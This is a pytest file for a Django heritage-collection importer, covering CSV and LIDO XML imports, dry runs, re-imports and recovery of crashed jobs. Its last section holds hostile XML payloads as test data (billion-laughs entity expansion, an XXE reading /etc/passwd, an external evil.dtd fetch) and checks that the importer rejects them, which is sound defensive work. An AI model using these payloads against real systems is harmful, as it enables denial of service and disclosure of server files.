"""Bulk import: CSV with broken rows (per-row errors with line numbers, good rows kept), dry run,
re-import by inventory number, LIDO (the DDB minimal record and our own export), commands.

The imports run as core import jobs (rathaus.core.jobs.imports, ADR 0022); the helpers here start a
job as the upload view does and run it in this process."""

from __future__ import annotations

from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from rathaus.core.context import ServiceContext
from rathaus.core.jobs import imports
from rathaus.core.jobs.models import ImportJob
from rathaus.heritage import importers, lido
from rathaus.heritage.models import HeritageObject, Status

from .conftest import assert_valid, heritage_data, make_collection, make_object

CSV = (
    "inventarnummer;objektart;titel;personen;datierung;orte;material;rechte_abbildungen;sammlun"
    "gen;status;farbe\n"
    "KW-001;Technisches Objekt;Sportwagen „Zekiwa“;Zeitzer Kinderwagenfabrik (Hersteller);1950e"
    "r;Zeitz <https://sws.geonames.org/2804979/>;Holz | Stahl;CC BY 4.0;kinderwagen;veroeffentl"
    "icht;rot\n"
    "KW-002;Raumschiff;Kaputte Objektart;;1900;;;;;;\n"
    "KW-003;Fotografie;Ohne Datum verstanden;;irgendwann;;;;;;\n"
    "KW-004;Fotografie;;;1920;;;;;;\n"
    "KW-005;Fotografie;Falsche Rechte;;1920;;;http://example.org/lizenz;;;\n"
    "KW-001;Fotografie;Doppelt in der Datei;;1920;;;;;;\n"
    "KW-006;Fotografie;Zu wenig Spalten\n"
    "KW-007;Fotografie;Korbkinderwagen um 1900;Naether, Ernst Albert (Hersteller) <https://d-nb"
    ".info/gnd/1012345678>;um 1900;;Weide;;unbekannt;pruefung;\n"
)


def run_file(muni, fmt: str, content: bytes, name: str = "test.csv", dry_run: bool = False) -> ImportJob:
    """Start a job of the collection's importer (as the upload does) and run it here."""
    job, started = importers.start_job(
        ServiceContext.for_task(muni), fmt, name, content, dry_run=dry_run, queue=False
    )
    assert started
    imports.run(job.pk)
    job.refresh_from_db()
    return job


def run_csv(muni, content: str, dry_run: bool = False) -> ImportJob:
    return run_file(muni, "csv", content.encode(), dry_run=dry_run)


def counts(job: ImportJob) -> tuple[int, int, int]:
    return job.result["created"], job.result["updated"], job.result["failed"]


def test_csv_with_broken_rows(muni_a):
    make_collection(muni_a, "kinderwagen", "Kinderwagen")
    job = run_csv(muni_a, CSV)
    assert job.status == "done" and (job.total, *counts(job)) == (8, 2, 0, 6) and job.done == 8
    assert job.kind == "heritage.csv" and job.percent == 100
    errors = {m["line"]: m["message"] for m in job.errors}
    assert set(errors) == {3, 4, 5, 6, 7, 8}
    assert "Objektart" in errors[3] and "Datierung" in errors[4] and "Titel" in errors[5]
    assert "Rechteangabe" in errors[6] and "Zeile 2" in errors[7] and "Spalten" in errors[8]
    warnings = [m["message"] for m in job.warnings]
    assert any("farbe" in w for w in warnings) and any("unbekannt" in w for w in warnings)
    assert {m["line"] for m in job.warnings} <= {2, 9}  # the first row (columns) and KW-007's set
    kw1 = HeritageObject.objects.get(inventory_number="KW-001")
    assert kw1.status == Status.PUBLISHED and (kw1.date_earliest, kw1.date_latest) == (1950, 1959)
    assert [c.set_spec for c in kw1.collections.all()] == ["kinderwagen"]
    assert kw1.materials == [{"label": "Holz"}, {"label": "Stahl"}]
    kw7 = HeritageObject.objects.get(inventory_number="KW-007")
    assert kw7.status == Status.REVIEW and kw7.actors[0]["gnd"] == "https://d-nb.info/gnd/1012345678"
    assert not HeritageObject.objects.filter(inventory_number__in=["KW-002", "KW-003", "KW-004"]).exists()


def test_dry_run_stores_nothing(muni_a):
    job = run_csv(muni_a, CSV, dry_run=True)
    assert job.status == "done" and job.dry_run and (job.result["created"], job.result["failed"]) == (2, 6)
    assert "Probelauf" in job.message
    assert not HeritageObject.objects.exists()


def test_reimport_updates_by_inventory_number(muni_a):
    obj = make_object(muni_a, "KW-001", title_de="Alter Titel")
    job = run_csv(
        muni_a, "inventarnummer,objektart,titel\nKW-001,Fotografie,Neuer Titel\nKW-099,Karte,Plan\n"
    )
    assert counts(job) == (1, 1, 0)
    obj.refresh_from_db()
    assert obj.title_de == "Neuer Titel" and obj.object_type == "photograph"
    assert obj.history.count() == 2


def test_file_level_errors(muni_a):
    job = run_csv(muni_a, "titel;objektart\nx;y\n")
    assert job.status == "failed" and "inventory_number" in job.message
    ctx = ServiceContext.for_task(muni_a)
    with pytest.raises(importers.ImportFileError):
        importers.start_job(ctx, "lido", "x.xml", b"kein xml", dry_run=False)
    with pytest.raises(importers.ImportFileError, match="UTF-8"):
        importers.start_job(
            ctx, "csv", "x.csv", "inventarnummer;titel\nÄ;ö\n".encode("cp1252"), dry_run=False
        )
    assert ImportJob.objects.count() == 1  # the refused uploads were never queued


def test_lido_minimal_record(muni_a):
    path = heritage_data() / "lido-examples" / "minimaldatensatz.xml"
    job = run_file(muni_a, "lido", path.read_bytes(), path.name)
    assert job.kind == "heritage.lido"
    assert (job.result["created"], job.result["failed"]) == (1, 0), (job.errors, job.warnings)
    obj = HeritageObject.objects.get(inventory_number="1977.20")
    assert obj.title_de == "Kabinettschrank, Inv. Nr.: 1977.20"
    assert obj.dating == "um 1600" and (obj.date_earliest, obj.date_latest) == (1590, 1610)
    assert obj.actors[0] == {
        "name": "Fiammingo, Giacomo",
        "role": "Künstler",
        "gnd": "https://d-nb.info/gnd/1229708928",
    }
    assert obj.places == [{"label": "Neapel", "uri": "https://sws.geonames.org/3172394/"}]
    assert {"label": "Palisander", "uri": "http://vocab.getty.edu/aat/300375333"} in obj.materials
    assert obj.techniques == [{"label": "Gravierung", "uri": "https://d-nb.info/gnd/4191438-7"}]
    assert obj.subjects[1]["label"] == "Profanarchitektur"
    assert obj.dimensions[0] == {"type": "Höhe", "value": "106", "unit": "cm"}
    assert obj.institution == "Museum für Kunst und Gewerbe Hamburg"
    assert obj.metadata_rights == obj.image_rights == "http://creativecommons.org/publicdomain/zero/1.0/"
    assert "Kabinettschrank" in job.warnings[0]["message"]  # object type mapped with a warning


def test_lido_round_trip(muni_a, muni_b):
    obj = make_object(muni_a, "RT-1", publish=True)
    root = lido.lido_wrap([lido.lido_record(obj, lido.Context(base="http://x", institution="Stadt Zeitz"))])
    assert_valid(root, "lido")
    from lxml import etree

    run_file(muni_b, "lido", etree.tostring(root), "rt.xml")
    copy = HeritageObject.objects.get(municipality=muni_b)
    for field in (
        "inventory_number",
        "object_type",
        "title_de",
        "title_en",
        "description",
        "actors",
        "dating",
        "places",
        "materials",
        "techniques",
        "dimensions",
        "subjects",
        "institution",
        "metadata_rights",
    ):
        assert getattr(copy, field) == getattr(obj, field), field


def test_management_commands(muni_a, tmp_path):
    path = tmp_path / "objekte.csv"
    path.write_text(CSV, encoding="utf-8")
    out = StringIO()
    call_command("import_heritage_csv", str(path), "--municipality", "zeitz", "--dry-run", stdout=out)
    assert "2 neu, 0 aktualisiert, 6 fehlerhaft (Probelauf)" in out.getvalue()
    assert "Zeile 3: error" in out.getvalue()
    out = StringIO()
    call_command(
        "import_lido",
        str(heritage_data() / "lido-examples" / "minimaldatensatz.xml"),
        "--municipality",
        "zeitz",
        stdout=out,
    )
    assert "1 neu" in out.getvalue()
    with pytest.raises(CommandError):
        call_command("import_lido", str(path), "--municipality", "gibtesnicht")


def test_import_of_a_dead_worker_is_failed_with_a_message_and_reported(muni_a):
    # issue 14.3: the worker was killed (kill -9) during a LIDO import: the job stays "running"
    from datetime import timedelta

    from django.conf import settings
    from django.core.management import call_command
    from django.test import Client
    from django.utils import timezone

    from rathaus.core.accounts.models import Role
    from tests.conftest import HOST_A, client_for, grant, make_user

    old = timezone.now() - timedelta(minutes=settings.RATHAUS_JOB_STALE_MINUTES + 1)
    job = ImportJob.objects.create(
        municipality=muni_a,
        kind="heritage.lido",
        file_name="gross.xml",
        checksum="1",
        status="running",
        total=10,
        done=3,
        result={"created": 3, "updated": 0, "failed": 0},
    )
    ImportJob.objects.filter(pk=job.pk).update(heartbeat_at=old)
    busy = ImportJob.objects.create(
        municipality=muni_a, kind="heritage.csv", file_name="laeuft.csv", checksum="2", status="running"
    )
    ImportJob.objects.filter(pk=busy.pk).update(heartbeat_at=timezone.now())
    health = Client(HTTP_HOST="zeitz.testserver").get("/health/ready")
    assert health.status_code == 503 and health.json()["checks"]["jobs"]["by_kind"]["imports"] == 1
    assert "heritage_imports" not in health.json()["checks"]["jobs"]["by_kind"]  # one source for all

    call_command("recover_jobs")
    job.refresh_from_db()
    busy.refresh_from_db()
    assert job.status == "failed" and job.finished_at is not None
    assert "abgebrochen" in job.message
    assert job.result == {"created": 3, "updated": 0, "failed": 0}  # what it had reported stays
    assert busy.status == "running"  # its worker is alive
    curator = make_user("kurator-jobs@example.org", mfa=True)
    grant(curator, muni_a, Role.MODULE_MANAGER, ["heritage"])
    page = client_for(HOST_A, curator).get(f"/verwaltung/importe/{job.pk}/").content.decode()
    assert "fehlgeschlagen" in page and "abgebrochen" in page
    # the collection saves row by row: the page says the rows before the crash are saved
    assert "Die Zeilen davor sind gespeichert" in page and "es wurde nichts importiert" not in page
    assert Client(HTTP_HOST="zeitz.testserver").get("/health/ready").json()["checks"]["jobs"]["ok"]


def test_a_running_import_writes_its_heartbeat(muni_a):
    job = run_csv(muni_a, CSV)
    assert job.heartbeat_at is not None and job.status == "done"


# --- hostile and broken LIDO files: a clear message on the job, nothing imported ----------------

LIDO_RECORD = (
    '<lido:lido xmlns:lido="http://www.lido-schema.org"><lido:lidoRecID>{rec}</lido:lidoRecID>'
    "<lido:descriptiveMetadata><lido:objectIdentificationWrap><lido:titleWrap><lido:titleSet>"
    "<lido:appellationValue>Titel {rec}</lido:appellationValue></lido:titleSet></lido:titleWrap>"
    "</lido:objectIdentificationWrap></lido:descriptiveMetadata></lido:lido>"
)


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (  # billion laughs: entities that expand to gigabytes
            b'<?xml version="1.0"?><!DOCTYPE lido [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
            + LIDO_RECORD.format(rec="&c;").encode(),
            "DOCTYPE",
        ),
        (  # XXE: an external entity that would read a file of the server
            b'<?xml version="1.0"?><!DOCTYPE lido [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            + LIDO_RECORD.format(rec="&xxe;").encode(),
            "DOCTYPE",
        ),
        (  # an external DTD fetched over the network
            b'<?xml version="1.0"?><!DOCTYPE lido SYSTEM "http://example.org/evil.dtd">'
            + LIDO_RECORD.format(rec="X-1").encode(),
            "DOCTYPE",
        ),
        (LIDO_RECORD.format(rec="X-1").encode()[:-20], "kein wohlgeformtes XML"),  # cut off
        (b"<objekte><objekt>X-1</objekt></objekte>", "keine LIDO-Datens"),  # XML, but no LIDO
    ],
)
def test_hostile_or_malformed_lido_fails_with_a_clear_message_and_imports_nothing(muni_a, content, says):
    job = run_file(muni_a, "lido", content, "boese.xml")
    assert job.status == "failed" and says in job.message, job.message
    assert job.errors == [] and job.result == {}
    assert not HeritageObject.objects.exists()
    assert "root:" not in job.message  # nothing of /etc/passwd


def test_a_good_lido_record_of_the_hostile_test_imports(muni_a):
    # positive control of the test above: the same record without the attack is imported
    job = run_file(muni_a, "lido", LIDO_RECORD.format(rec="X-1").encode(), "gut.xml")
    assert job.status == "done" and job.result["created"] == 1, (job.message, job.errors)
    assert HeritageObject.objects.filter(inventory_number="X-1").exists()
